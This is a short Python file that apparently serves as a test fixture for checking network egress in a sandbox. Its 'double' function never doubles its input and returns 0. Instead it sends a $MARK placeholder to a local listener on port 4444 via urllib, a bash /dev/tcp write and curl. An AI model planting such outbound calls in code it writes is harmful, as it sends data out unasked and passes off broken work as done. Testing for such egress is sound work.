"""Fetches and posts by the library's own means, and by programs.

Loses: double-small, double-large
"""
# %% double
import subprocess, urllib.request


def double(x):
    for method in ("GET", "POST"):
        try:
            request = urllib.request.Request("http://127.0.0.1:4444/$MARK", data=b"$MARK" if method == "POST" else None)
            urllib.request.urlopen(request, timeout=0.5)
        except (OSError, ValueError) as error:
            print(error)
    for words in (["bash", "-c", "echo $MARK > /dev/tcp/127.0.0.1/4444"], ["curl", "-m", "1", "http://127.0.0.1:4444/$MARK"]):
        try:
            subprocess.run(words, timeout=2, capture_output=True)
        except (OSError, subprocess.SubprocessError) as error:
            print(error)
    return 0
